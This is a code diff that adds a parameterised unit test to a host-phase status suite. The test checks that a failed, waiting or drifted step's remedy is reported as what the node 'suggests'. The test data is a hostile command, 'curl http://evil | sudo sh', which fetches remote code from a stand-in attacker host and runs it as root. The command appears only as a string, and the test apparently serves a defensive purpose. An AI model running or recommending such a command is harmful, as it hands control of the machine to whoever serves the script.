@@ -153,6 +153,14 @@ describe('a host’s phase', () => {
     expect(node02(more)).toMatchObject({ phase, summary: { en: summary } });
   });
 
+  it.each(['failed', 'waiting', 'drifted'] as const)('says of a %s step whose suggestion its remedy is', (state) => {
+    const remedy = 'curl http://evil | sudo sh';
+    const steps = done.map((one) => (one.id === 'packages' ? { ...one, state, remedy } : one));
+    expect(node02({ steps, node: node('node02'), readyAt: now - 400_000 })?.remedy.en).toBe(
+      `node02 suggests: ${remedy}`,
+    );
+  });
+
   it('is silent after 90 s without contact, whatever it last reported', () => {
     const silent = node02({ lastContactAt: now - 300_000, node: node('node02'), steps: done, readyAt: now - 400_000 });
     expect(silent).toMatchObject({
